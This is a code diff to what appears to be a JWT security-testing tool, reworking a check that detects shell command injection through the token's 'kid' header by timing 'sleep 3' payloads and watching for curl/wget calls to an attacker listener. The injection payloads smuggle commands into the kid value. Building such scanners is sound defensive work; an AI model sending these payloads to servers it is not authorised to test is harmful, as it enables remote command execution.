@@ -142,8 +142,10 @@ check(
 );
 
 const SQL_ERRORS = /SQL|syntax error|sqlite|postgres|mysql|ORA-\d+|unterminated quoted string/i;
-/** How much slower than the same batch's harmless kid an injected sleep makes an answer (the payloads sleep 3 s). */
+/** How much slower than the harmless kid an injected sleep makes an answer (the payloads sleep 3 s). */
 const INJECTED_DELAY_MS = 2_500;
+/** Harmless kids sent one after another before the sleeps: the fastest is the baseline. */
+const BASELINE_SAMPLES = 3;
 
 check(
   {
@@ -153,9 +155,9 @@ check(
     requirement: 'RFC 8725 §3.10: kid is attacker-controlled; a key lookup that builds a shell command from it runs the attacker\'s commands on the server.',
     references: ['RFC 8725 §3.10', 'jwt_tool playbook (kid injection)', 'PortSwigger JWT attacks (kid)'],
     taxonomy: { cwe: ['CWE-78', 'CWE-347'], capec: ['CAPEC-88'], owaspApi: 'API2:2023' },
-    expected: `401 at normal latency (a payload that sleeps 3 s answered ${INJECTED_DELAY_MS / 1000} s slower than a harmless kid, twice, is FAIL), and no request to the attacker listener from a payload that calls it`,
+    expected: `401 at normal latency (a payload that sleeps 3 s answered ${INJECTED_DELAY_MS / 1000} s slower than a harmless kid, sent alone and again, is FAIL), and no request to the attacker listener from a payload that calls it`,
   },
-  async ({ token, target, sendAll }): Promise<CheckResult> => {
+  async ({ token, target, send, sendAll }): Promise<CheckResult> => {
     const withKid = (kid: string) => withHeader(token, (header) => ({ ...header, kid }));
     const forms: [string, (command: string) => string][] = [
       ['$(…)', (c) => `x$(${c})`],
@@ -164,27 +166,33 @@ check(
       ['| …', (c) => `x|${c}`],
       ['&& …', (c) => `x&&${c}`],
     ];
-    const callbacks: [string, string][] = forms.map(([form, inject], i) => [`kid with ${form} calling the attacker listener`, withKid(inject(`curl -s ${attacker.url}/cmdi/${i} || wget -q -O- ${attacker.url}/cmdi/${i}`))]);
-    const sleeps = (round: number): [string, string][] => [
-      ...forms.map(([form, inject]) => [`kid with ${form} sleep 3 (time-based, round ${round})`, withKid(inject('sleep 3'))] as [string, string]),
-      [`harmless kid (the batch's baseline, round ${round})`, withKid(`x-harmless-${round}`)],
-    ];
-    const first = await sendAll([...callbacks, ...sleeps(1)]);
+    const callbacks = await sendAll(forms.map(([form, inject], i) => [`kid with ${form} calling the attacker listener`, withKid(inject(`curl -s ${attacker.url}/cmdi/${i} || wget -q -O- ${attacker.url}/cmdi/${i}`))]));
     const called = await attacker.hitsWithin('/cmdi/', FETCH_WINDOW_MS);
-    const measured = { slowestMs: Math.max(...first.map((e) => e.durationMs)), listenerHits: called.length };
-    if (called.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: the attacker listener was called ${called.length} time${called.length === 1 ? '' : 's'} (${called.map((h) => h.path).join(', ')})`, measured };
-    const accepted = expectAllRejected(first);
-    if (accepted.verdict === 'FAIL') return { ...accepted, measured };
-    // A slow machine delays the whole batch alike; a sleep that ran delays its own answer, every time.
-    const delayed = (batch: Exchange[]) => {
-      const baseline = batch.find((e) => e.label.startsWith('harmless kid'))!.durationMs;
-      return batch.filter((e) => e.label.includes('sleep 3') && (e.durationMs - baseline >= INJECTED_DELAY_MS || (e.outcome === 'transport-error' && /timeout|aborted/i.test(e.error ?? ''))));
-    };
-    if (delayed(first).length) {
-      const again = delayed(await sendAll(sleeps(2)));
-      if (again.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: ${again.map((e) => `"${e.label}" took ${e.durationMs} ms`).join(', ')}, ${INJECTED_DELAY_MS / 1000} s and more beyond the harmless kid of the same batch, in two rounds (timeout ${target.settings.timeoutMs} ms)`, measured };
+    if (called.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: the attacker listener was called ${called.length} time${called.length === 1 ? '' : 's'} (${called.map((h) => h.path).join(', ')})`, measured: { attackerFetches: called.length } };
+    // Timing, one request at a time: a server with a few workers would hold a harmless kid sent beside
+    // five sleeps behind them, and the baseline would hide them. The fastest of a few harmless kids first.
+    const baseline: Exchange[] = [];
+    for (let i = 0; i < BASELINE_SAMPLES; i++) baseline.push(await send(`harmless kid #${i + 1} (the baseline)`, withKid(`x-harmless-${i}`)));
+    const fastest = Math.min(...baseline.map((e) => e.durationMs));
+    const timeoutMs = target.settings.timeoutMs;
+    if (fastest + INJECTED_DELAY_MS >= timeoutMs) return { verdict: 'ERROR', observed: `inconclusive: a harmless kid takes ${fastest} ms, too close to the ${timeoutMs} ms timeout to see a 3 s sleep` };
+    const sleepTokens = forms.map(([form, inject]) => [`kid with ${form} sleep 3 (time-based)`, withKid(inject('sleep 3'))] as const);
+    const sleeps: Exchange[] = [];
+    for (const [label, sleeping] of sleepTokens) sleeps.push(await send(label, sleeping));
+    const delayed = (e: Exchange) => e.durationMs - fastest >= INJECTED_DELAY_MS || (e.outcome === 'transport-error' && /timeout|aborted/i.test(e.error ?? ''));
+    const measured = { baselineMs: fastest, slowestMs: Math.max(...sleeps.map((e) => e.durationMs)) };
+    // A sleep that ran delays its answer every time; a pause of the machine or the backend does not come back on cue.
+    const suspects = sleepTokens.filter((_, i) => delayed(sleeps[i]!));
+    const confirmed: Exchange[] = [];
+    for (const [label, sleeping] of suspects) {
+      const again = await send(`${label}, again`, sleeping);
+      if (delayed(again)) confirmed.push(again);
     }
-    return { ...accepted, observed: `${accepted.observed}; no sleep delayed an answer, and no payload called the attacker listener (slowest ${measured.slowestMs} ms)`, measured };
+    if (confirmed.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: ${confirmed.map((e) => `"${e.label}" took ${e.durationMs} ms`).join(', ')}, against ${fastest} ms for a harmless kid (timeout ${timeoutMs} ms)`, measured, ownSignal: true };
+    const result = expectAllRejected([...callbacks, ...sleeps]);
+    if (result.verdict !== 'PASS') return { ...result, measured };
+    const unconfirmed = suspects.length ? `; ${suspects.length} slow answer${suspects.length === 1 ? '' : 's'} did not recur` : '';
+    return { ...result, observed: `${result.observed}; no payload called the attacker listener, and no sleep delayed an answer beyond ${fastest} ms for a harmless kid (slowest ${measured.slowestMs} ms)${unconfirmed}`, measured };
   },
 );
 
